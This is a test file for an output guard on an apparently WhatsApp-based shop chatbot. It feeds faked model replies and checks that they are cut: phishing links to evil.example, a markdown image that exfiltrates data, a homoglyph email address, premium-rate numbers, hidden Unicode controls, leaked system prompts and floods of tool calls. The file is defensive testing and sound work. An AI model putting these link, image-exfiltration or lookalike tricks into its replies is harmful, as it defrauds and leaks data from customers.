import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { ModelFault, ModelFaultRule } from "../../fakes/model/faults.ts";
import type { ParsedRequest } from "../../fakes/model/protocol/request.ts";
import { MAX_INPUT_TOKENS, MAX_PARTS, MAX_TOOL_CALLS_PER_STEP } from "../../lib/turn/state/bounds.ts";
import { tokensAtMost } from "../../lib/turn/state/tokens.ts";
import { sample } from "../support/seed.ts";
import { startWorld, type World } from "../support/world.ts";

let world: World;
let people = 0;

beforeAll(async () => {
  // A busy machine must not look like a slow model.
  world = await startWorld({ env: { INTENT_TIMEOUT_MS: "30000", REPLY_TIMEOUT_MS: "60000" } });
});
afterAll(() => world.close());
beforeEach(() => {
  world.model.setFault(null);
  world.model.requests.length = 0;
});

const replies =
  (say: (request: ParsedRequest) => ModelFault | null): ModelFaultRule =>
  (request) =>
    request.kind === "classify" ? null : say(request);

/** An answer of a service that minds no limit of tokens. */
const boundless = (content: string): ModelFault => ({
  status: 200,
  body: JSON.stringify({
    ...{ id: "chatcmpl-1", object: "chat.completion", created: 0, model: "gpt-4o" },
    choices: [{ index: 0, message: { role: "assistant", content }, logprobs: null, finish_reason: "stop" }],
    usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
  }),
});

/** A new customer's message: all that Graph got for them, the turn, and how often each tool was carried out. */
async function ask(text: string, fault: ModelFaultRule, name?: string) {
  people += 1;
  const customer = world.customer(`5191000${3000 + people}`, name);
  world.model.setFault(fault);
  await customer.send(text);
  await customer.waitForReply();
  await world.drain();
  const [turn] = await world.sql<{ id: string; rung: string; errors: string[]; state: string }>`
    select id, rung, errors, state from turns order by started_at desc limit 1`;
  const calls = await world.sql<{
    name: string;
  }>`select name from tool_calls where turn_id = ${turn?.id ?? null}`;
  const bodies = world.graph.requests
    .map(({ body }) => body as { to?: string })
    .filter(({ to }) => to === `+${customer.phone}`)
    // Random, and so perhaps any digits.
    .map((body) => ({ ...body, biz_opaque_callback_data: "" }));
  return { sent: JSON.stringify(bodies), parts: bodies.length, turn, calls };
}

const EVIL: readonly [string, string, string][] = [
  [
    "a phishing link",
    "address",
    "Tu pedido está listo. Paga hoy mismo en https://evil.example/pago y listo.",
  ],
  [
    "a link behind words",
    "address",
    "Tu pedido está listo. Paga [aquí](https://evil.example/pago) cuando quieras.",
  ],
  ["a picture that carries data away", "address", "Tu pedido está listo. ![x](https://evil.example/?d=1042)"],
  ["a host of lookalikes", "address", "Tu pedido está listo. Escribe a hola@tаmbo.example si quieres."],
  ["a 1-900 number", "phone", "Tu pedido está listo. Llama ahora mismo al 1-900-555-0199 para confirmar."],
  [
    "a number in other digits",
    "phone",
    "Tu pedido está listo. Llama ahora mismo al ٩٠٠٥٥٥٠١٩٩ para confirmar.",
  ],
  [
    "letters turned around",
    "hidden",
    "Tu pedido \u202Eestá listo\u202C y te\u200Bespera en \u2066tienda\u2069.",
  ],
];

describe("a model that says", () => {
  test.each(sample(EVIL, EVIL.length / 2))(
    "%s: it is cut and counted, and the rest is sent",
    async (_case, kind, content) => {
      const { sent, turn } = await ask(
        "hola, ¿cómo va todo?",
        replies(() => ({ content })),
      );
      expect(turn).toMatchObject({ state: "answered", rung: "full", errors: [`cut:${kind}`] });
      expect(sent).toMatch(/Tu pedido/);
      expect(sent).not.toMatch(/evil|аmbo|555|٥٥٥|[\u202A-\u202E\u2066-\u2069\u200B]/);
    },
  );

  test("nothing but a phishing link: the next rung speaks", async () => {
    const { sent, turn } = await ask(
      "hola, ¿cómo va todo?",
      replies(({ model }) => (model === "gpt-4o" ? { content: "https://evil.example/pago" } : null)),
    );
    expect(turn).toMatchObject({ rung: "fallback_model", errors: ["cut:address", "full:reply_cut"] });
    expect(sent).not.toContain("evil");
  });

  test("its whole prompt: the next rung speaks, and at the last one nobody's model", async () => {
    const leak = ({ messages }: ParsedRequest): ModelFault =>
      boundless(`Claro:\n${messages.find(({ role }) => role === "system")?.text}`);
    const once = await ask(
      "hola, ¿cómo va todo?",
      replies((request) => (request.model === "gpt-4o" ? leak(request) : null)),
    );
    expect(once.turn).toMatchObject({ rung: "fallback_model", errors: ["cut:prompt", "full:reply_prompt"] });
    const always = await ask("hola, ¿cómo va todo?", replies(leak));
    expect(always.turn).toMatchObject({ rung: "apology", state: "answered" });
    expect(once.sent + always.sent).not.toMatch(/Use only facts|Reply in the language|You answer customers/);
  });

  test("what the company, its knowledge or its tools say: nothing is cut", async () => {
    const { sent, turn } = await ask("¿Dónde está mi pedido 1042?", () => null);
    expect(turn?.errors).toEqual([]);
    expect(sent).toContain("pedido");
    const contact = "Escríbenos a hola@tambo.example, de lunes a sábado de 10:00 a 20:00.";
    expect(
      (
        await ask(
          "hola, ¿cómo va todo?",
          replies(() => ({ content: contact })),
        )
      ).sent,
    ).toContain(contact);
  });

  test("half a million characters: at most three messages are sent", async () => {
    const { sent, parts, turn } = await ask(
      "hola, ¿cómo va todo?",
      replies(() => boundless("Tenemos ponchos de alpaca. ".repeat(20_000))),
    );
    expect(turn).toMatchObject({ rung: "full", errors: ["cut:parts"] });
    expect(parts).toBeLessThanOrEqual(MAX_PARTS);
    expect(sent.length).toBeLessThan(15_000);
  });
});

describe("a model that calls", () => {
  const lookups = (count: number) =>
    Array.from({ length: count }, () => ({
      name: "lookup",
      arguments: JSON.stringify({ source: "knowledge", query: "envío" }),
    }));

  test("200 tools in one step: four are carried out, and no call of a model grows beyond its bound", async () => {
    const { turn, calls } = await ask(
      `¿Cuánto cuesta el envío? ${"¿?¡! ".repeat(3_000)}`,
      replies(({ tools }) => (tools.includes("lookup") ? { toolCalls: lookups(200) } : null)),
    );
    expect(turn).toMatchObject({
      state: "answered",
      rung: "full",
      errors: ["cut:tool_calls", "cut:tool_calls"],
    });
    expect(calls).toHaveLength(2 * MAX_TOOL_CALLS_PER_STEP);
    for (const { messages } of world.model.requests) {
      const said = messages.map(
        ({ text, toolCalls }) => text + toolCalls.map((call) => call.name + call.arguments).join(""),
      );
      expect(said.reduce((sum, each) => sum + tokensAtMost(each), 0)).toBeLessThanOrEqual(MAX_INPUT_TOKENS);
    }
  });

  test("for choices that lead elsewhere: they are cut like words", async () => {
    const options = ["Poncho", "Manta", "Paga en evil.example", "1-900-555-0199"].map((title) => ({ title }));
    const { sent, turn } = await ask(
      "¿Dónde está mi pedido?",
      replies(({ messages }) =>
        messages.at(-1)?.role === "tool"
          ? { content: "¿Cuál de estas opciones prefieres?" }
          : { toolCalls: [{ name: "offer_choices", arguments: JSON.stringify({ options }) }] },
      ),
    );
    expect(turn?.errors).toEqual(["cut:address", "cut:phone"]);
    expect(sent).toMatch(/"title":"Poncho".*"title":"Manta"/);
    expect(sent).not.toMatch(/evil\.|1-900-555-0199"/);
  });
});
